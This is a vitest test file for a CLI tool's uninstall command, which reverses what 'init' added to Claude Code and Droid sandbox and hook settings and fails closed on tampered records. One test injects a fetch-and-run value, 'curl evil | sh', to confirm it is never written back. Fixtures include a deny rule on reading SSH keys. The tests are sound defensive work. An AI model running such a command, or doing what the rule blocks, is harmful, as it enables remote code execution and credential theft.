import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cliEn as en } from '../../src/cli/messages';
import { BIN, cleanEnv, runCli, tempDir } from '../helpers/cli';

// uninstall takes back exactly what init added, read from the record init keeps in the state
// directory: the hook, the sandbox block and the launcher's entries in the project's local settings
// and the user's launch settings, the exec map, the user settings of init --hardened, Droid's
// sandbox in ~/.factory/settings.json, and the directories init made. A file the user had is left
// byte for byte as it was; one init made goes when nothing of the user's is in it.

const onLinux = process.platform === 'linux';

/** A project, a home, bwrap and socat stubs, and a closed program (the tax example's aeat) on PATH, outside both. */
function machine() {
  const root = tempDir('pg-unin-');
  const dir = join(root, 'proj');
  const home = join(root, 'home');
  const bin = join(root, 'bin');
  for (const d of [dir, home, bin]) mkdirSync(d);
  for (const p of ['bwrap', 'socat']) writeFileSync(join(bin, p), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
  writeFileSync(join(bin, 'aeat'), '#!/bin/sh\necho "$@"\n', { mode: 0o755 });
  symlinkSync(BIN, join(bin, 'persona-gate'));
  const env = cleanEnv({
    HOME: home,
    PERSONA_GATE_STATE_DIR: join(home, 'state'),
    PERSONA_GATE_CONFIG_HOME: join(home, 'prefs'),
    PATH: `${bin}:/usr/bin:/bin`,
  });
  delete env.CLAUDE_CONFIG_DIR;
  const run = (...args: string[]) => runCli([...args, '--dir', dir], { env, cwd: dir });
  const write = (path: string, text: string) => {
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, text);
  };
  /** Every file (its bytes) and directory of the project and the home. */
  const snapshot = () => ({ proj: tree(dir), home: tree(home) });
  return {
    dir,
    home,
    bin,
    env,
    run,
    write,
    snapshot,
    local: join(dir, '.claude', 'settings.local.json'),
    launch: join(home, '.claude', 'persona-gate-launch.json'),
    user: join(home, '.claude', 'settings.json'),
    droid: join(home, '.factory', 'settings.json'),
    map: join(home, 'state', 'exec.json'),
    record: join(home, 'state', 'installed.json'),
  };
}

function tree(root: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (d: string) => {
    for (const name of readdirSync(d).sort()) {
      const p = join(d, name);
      const rel = relative(root, p);
      if (statSync(p).isDirectory()) {
        out[`${rel}/`] = '';
        walk(p);
      } else out[rel] = readFileSync(p, 'utf8');
    }
  };
  walk(root);
  return out;
}

/** The user's own settings, as a person writes them (not init's formatting), with entries next to persona-gate's. */
const OWN_LOCAL =
  '{\n    "sandbox": { "enabled": true, "excludedCommands": ["docker *"], "filesystem": { "denyWrite": ["/srv/secret"] } },\n    "permissions": { "deny": ["Read(~/.ssh/**)"] }\n}';
const OWN_LAUNCH = '{"model": "opus"}';
const OWN_USER = '{"model":"opus","sandbox":{"enabled":false},"hooks":{"Stop":[{"hooks":[{"type":"command","command":"notify"}]}]}}';
const OWN_DROID = '{"enableTelemetry": false, "sandbox": {"filesystem": {"denyWrite": ["/srv/secret"]}}}';

describe.skipIf(!onLinux)('uninstall takes back what init added, for Claude Code', () => {
  it('on a machine with nothing of persona-gate: init then uninstall --purge leaves every file as it was', () => {
    const m = machine();
    const before = m.snapshot();
    const doctorBefore = m.run('doctor').stdout;
    const init = m.run('init');
    expect(init.code, init.stderr).toBe(0);
    expect(init.stdout).toContain(en.initLaunched('aeat', join(m.bin, 'aeat')));
    const local = JSON.parse(readFileSync(m.local, 'utf8'));
    expect(local.sandbox.excludedCommands).toHaveLength(1);
    expect(JSON.parse(readFileSync(m.launch, 'utf8')).sandbox.excludedCommands).toEqual(local.sandbox.excludedCommands);
    expect(Object.keys(JSON.parse(readFileSync(m.map, 'utf8')).programs)).toEqual(['aeat']);
    const r = m.run('uninstall', '--purge');
    expect(r.code, r.stderr).toBe(0);
    for (const file of [m.local, m.launch, m.map]) expect(r.stdout).toContain(`removed what init added to ${file}`);
    expect(r.stdout).toContain('sandbox.excludedCommands');
    expect(r.stdout).toContain(en.uninstallDirRemoved(join(m.home, 'state')));
    expect(m.snapshot()).toEqual(before);
    // doctor no longer finds a deployment: it says what it said before init
    expect(m.run('doctor').stdout).toBe(doctorBefore);
  });

  it("keeps the user's own settings byte for byte, and their sandbox.enabled", () => {
    const m = machine();
    m.write(m.local, OWN_LOCAL);
    m.write(m.launch, OWN_LAUNCH);
    const before = m.snapshot();
    expect(m.run('init').code).toBe(0);
    expect(readFileSync(m.local, 'utf8')).not.toBe(OWN_LOCAL);
    const r = m.run('uninstall');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(`removed what init added to ${m.local}`);
    expect(r.stdout).toContain(': it is again as it was before init');
    // without --purge only the policy and its tests stay
    const after = m.snapshot();
    expect(Object.keys(after.proj).filter((k) => !(k in before.proj))).toEqual([
      '.claude/persona-gate.json',
      '.claude/persona-gate.test.json',
    ]);
    expect(after.home).toEqual(before.home);
    expect(readFileSync(m.local, 'utf8')).toBe(OWN_LOCAL);
    expect(readFileSync(m.launch, 'utf8')).toBe(OWN_LAUNCH);
    expect(m.run('uninstall', '--purge').code).toBe(0);
    expect(m.snapshot()).toEqual(before);
  });

  it('keeps what the user added after init, and takes only persona-gate entries out around it', () => {
    const m = machine();
    expect(m.run('init').code).toBe(0);
    const local = JSON.parse(readFileSync(m.local, 'utf8'));
    local.sandbox.excludedCommands.push('docker *');
    local.permissions.deny.push('Read(~/.ssh/**)');
    local.env = { FOO: '1' };
    writeFileSync(m.local, JSON.stringify(local));
    expect(m.run('uninstall', '--purge').code).toBe(0);
    expect(JSON.parse(readFileSync(m.local, 'utf8'))).toEqual({
      sandbox: { excludedCommands: ['docker *'] },
      permissions: { deny: ['Read(~/.ssh/**)'] },
      env: { FOO: '1' },
    });
  });

  it("two projects share the launch settings and the exec map: one's uninstall keeps what the other needs", () => {
    const m = machine();
    const other = join(dirname(m.dir), 'other');
    mkdirSync(other);
    const before = m.snapshot();
    expect(m.run('init').code).toBe(0);
    expect(runCli(['init', '--dir', other], { env: m.env, cwd: other }).code).toBe(0);
    const launch = readFileSync(m.launch, 'utf8');
    expect(m.run('uninstall', '--purge').code).toBe(0);
    // the other project's guarded paths and the launcher's entries are still there
    const left = JSON.parse(readFileSync(m.launch, 'utf8'));
    expect(left.sandbox.enabled).toBe(true);
    expect(left.sandbox.excludedCommands).toEqual(JSON.parse(launch).sandbox.excludedCommands);
    expect(left.sandbox.filesystem.denyWrite).toContain(join(other, '.claude', 'persona-gate.json'));
    expect(left.sandbox.filesystem.denyWrite).not.toContain(join(m.dir, '.claude', 'persona-gate.json'));
    expect(Object.keys(JSON.parse(readFileSync(m.map, 'utf8')).programs)).toEqual(['aeat']);
    expect(runCli(['uninstall', '--purge', '--dir', other], { env: m.env, cwd: other }).code).toBe(0);
    expect(m.snapshot().home).toEqual(before.home);
  });

  it('init --hardened: the user settings get back exactly what they held, hooks of their own included', () => {
    const m = machine();
    m.write(m.user, OWN_USER);
    const before = m.snapshot();
    const init = m.run('init', '--hardened');
    expect(init.code, init.stderr).toBe(0);
    const user = JSON.parse(readFileSync(m.user, 'utf8'));
    expect(user.sandbox.enabled).toBe(true);
    expect(user.sandbox.excludedCommands).toHaveLength(1);
    const r = m.run('uninstall', '--purge');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(en.uninstallHookTakenBack(m.user, 'PreToolUse, PostToolUse, PostToolUseFailure, SessionStart'));
    expect(r.stdout).not.toContain(en.uninstallElsewhere(m.user));
    expect(m.snapshot()).toEqual(before);
  });

  it('a hook the user registered before init --hardened is theirs: it stays', () => {
    const m = machine();
    const own = { hooks: { PreToolUse: [{ hooks: [{ type: 'command', command: 'persona-gate hook', timeout: 30 }] }] } };
    m.write(m.user, JSON.stringify(own));
    expect(m.run('init', '--hardened').code).toBe(0);
    const r = m.run('uninstall', '--purge');
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(readFileSync(m.user, 'utf8')).hooks.PreToolUse).toHaveLength(1);
    expect(r.stdout).toContain(en.uninstallElsewhere(m.user));
  });
});

describe.skipIf(!onLinux)('uninstall --host droid takes back the sandbox init --host droid turned on', () => {
  for (const own of [null, OWN_DROID])
    it(`${own === null ? 'without' : 'with'} user settings of their own: every file as it was`, () => {
      const m = machine();
      if (own !== null) m.write(m.droid, own);
      const before = m.snapshot();
      const doctorBefore = m.run('doctor', '--host', 'droid').stdout;
      const init = m.run('init', '--host', 'droid');
      expect(init.code, init.stderr).toBe(0);
      expect(JSON.parse(readFileSync(m.droid, 'utf8')).sandbox.enabled).toBe(true);
      expect(existsSync(join(m.dir, '.claude', 'commands'))).toBe(true);
      const r = m.run('uninstall', '--host', 'droid', '--purge');
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toContain(`removed what init added to ${m.droid}`);
      expect(r.stdout).toContain('sandbox.filesystem.allowWrite');
      expect(r.stdout).toContain(en.uninstallDirRemoved(join(m.dir, '.claude', 'commands')));
      expect(m.snapshot()).toEqual(before);
      expect(m.run('doctor', '--host', 'droid').stdout).toBe(doctorBefore);
    });

  it('leaves what init --host droid and init for Claude Code each added to the other', () => {
    const m = machine();
    expect(m.run('init').code).toBe(0);
    const local = readFileSync(m.local, 'utf8');
    expect(m.run('init', '--host', 'droid').code).toBe(0);
    expect(m.run('uninstall', '--host', 'droid').code).toBe(0);
    expect(existsSync(m.droid)).toBe(false);
    expect(readFileSync(m.local, 'utf8')).toBe(local);
  });
});

describe.skipIf(!onLinux)('uninstall fails closed', () => {
  it('a settings file it cannot parse, or not the shape init left, is named and nothing changes', () => {
    const m = machine();
    expect(m.run('init').code).toBe(0);
    writeFileSync(m.local, '{ "sandbox": ');
    const unparsable = m.snapshot();
    const r = m.run('uninstall', '--purge');
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(m.local);
    expect(m.snapshot()).toEqual(unparsable);

    const launch = JSON.parse(readFileSync(m.launch, 'utf8'));
    writeFileSync(m.local, '{}');
    launch.sandbox.excludedCommands = 'not a list';
    writeFileSync(m.launch, JSON.stringify(launch));
    const shape = m.snapshot();
    const s = m.run('uninstall', '--purge');
    expect(s.code).toBe(1);
    expect(s.stderr).toContain(en.initNotObject(m.launch, 'sandbox.excludedCommands'));
    expect(m.snapshot()).toEqual(shape);
  });

  it('a record that is not one is named and nothing changes', () => {
    const m = machine();
    expect(m.run('init').code).toBe(0);
    writeFileSync(m.record, JSON.stringify({ v: 1, files: { 'relative/path': {} } }));
    const bad = m.snapshot();
    const r = m.run('uninstall', '--purge');
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(en.installRecordBad(m.record, 'not an install record'));
    expect(m.snapshot()).toEqual(bad);
  });

  it('a record that names settings init never writes cannot make uninstall write them', () => {
    const m = machine();
    m.write(m.local, '{"apiKeyHelper": "mine"}');
    expect(m.run('init').code).toBe(0);
    const record = JSON.parse(readFileSync(m.record, 'utf8'));
    record.files[m.local].ours.push({ path: ['apiKeyHelper'], value: 'mine', before: 'curl evil | sh' });
    writeFileSync(m.record, JSON.stringify(record));
    expect(m.run('uninstall', '--purge').code).toBe(0);
    expect(JSON.parse(readFileSync(m.local, 'utf8'))).toEqual({ apiKeyHelper: 'mine' });
  });
});
